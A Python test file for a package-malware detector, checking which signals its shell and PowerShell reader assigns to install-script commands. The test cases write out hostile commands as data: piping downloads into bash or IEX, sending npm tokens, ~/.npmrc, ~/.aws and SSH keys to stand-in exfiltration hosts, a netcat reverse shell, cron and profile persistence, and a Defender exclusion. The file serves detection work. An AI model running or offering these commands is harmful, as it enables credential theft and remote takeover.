"""Shell and PowerShell text against what it means: the reader, the catalogue and the lists together."""

import pytest

from packamal.detectors.interpret import interpret
from packamal.detectors.shell import read
from packamal.detectors.units import Language, Unit
from packamal.model import Role


def observe(source, language):
    unit = Unit("run", "run", source.encode(), language, Role.INSTALL, "postinstall")
    units = {"run": unit}
    return interpret(read([unit], units), units, "shell", "a.tgz")


def signals(source, language=Language.SHELL):
    return {signal.id.value for signal in observe(source, language).signals}


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("curl -s https://cdn.example/x.sh | bash", {"net.fetch", "proc.shell", "code.eval"}),
        ("wget http://cdn.example/run.bin -O /tmp/run.bin && chmod +x /tmp/run.bin", {"file.drop", "file.chmod"}),
        ("curl -X POST -d k=$NPM_TOKEN https://exfil.example", {"net.send", "env.secret"}),
        ("curl -F f=@$HOME/.npmrc https://exfil.example", {"net.send", "cred.read"}),
        ("tar czf - ~/.aws | nc exfil.example 99", {"net.send"}),
        ("env > /dev/tcp/exfil.example/80", {"net.socket", "env.read.all"}),
        ("nohup python3 -c 'import os' >/dev/null 2>&1 &", {"proc.hidden", "proc.interpreter"}),
        ("echo x >> ~/.bashrc", {"persist.profile"}),
        ("systemctl enable updates", {"persist.service"}),
        ("(crontab -l; echo '* * * * * /tmp/x') | crontab -", {"persist.service"}),
        ("schtasks /create /tn x /tr C:\\x.exe /sc onlogon", {"persist.service"}),
        ("nc -e /bin/sh exfil.example 4444", {"proc.reverse-shell"}),
        ("echo aGk= | base64 -d | sh", {"decode.text"}),
        ("./run.sh", {"proc.exec"}),
    ],
)
def test_a_command_means(source, expected):
    assert expected <= signals(source)


@pytest.mark.parametrize(
    ("source", "unexpected"),
    [
        ("sc query npcap", "persist.service"),
        ("sc start npcap", "persist.service"),
        ("crontab -l", "persist.service"),
        ("systemctl status nginx", "persist.service"),
        ("systemctl --version", "persist.service"),
        ("git status", "net.fetch"),
        ("curl --version", "net.fetch"),
        ("openssl version", "decode.text"),
        ("base64 x.bin", "decode.text"),
        ("python setup.py build", "proc.hidden"),
        ("python -c 'import x' >/dev/null 2>&1", "proc.hidden"),
        ("command -v curl >/dev/null 2>&1 && echo yes", "net.fetch"),
        ("command -v nc", "net.send"),
    ],
)
def test_asking_is_not_doing(source, unexpected):
    assert unexpected not in signals(source)


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("IEX (New-Object Net.WebClient).DownloadString('http://cdn.example/x')", {"net.fetch", "code.eval"}),
        ("$w = New-Object Net.WebClient; $w.DownloadFile('http://cdn.example/a.exe', 'a.exe')", {"file.drop"}),
        ("iwr http://cdn.example/a.exe -OutFile a.exe; Start-Process a.exe", {"net.fetch", "file.drop", "proc.exec"}),
        ("Start-Process a.exe -WindowStyle Hidden", {"proc.hidden"}),
        ("irm https://exfil.example -Method Post -Body $env:API_TOKEN", {"net.send", "env.secret"}),
        ("Get-Content ~/.ssh/id_rsa", {"cred.read"}),
        ("Add-MpPreference -ExclusionPath C:/", {"anti.av"}),
    ],
)
def test_powershell_means(source, expected):
    assert expected <= signals(source, Language.POWERSHELL)


def test_what_a_constant_decodes_to_is_the_target():
    found = observe("echo Y3VybCBodHRwczovL2EuZXhhbXBsZS94 | base64 -d | sh", Language.SHELL).signals
    assert [signal.target for signal in found if signal.id.value == "decode.text"] == ["curl https://a.example/x"]
    found = observe("cat x | base64 -d | sh", Language.SHELL).signals
    assert [signal.target for signal in found if signal.id.value == "decode.text"] == [""]
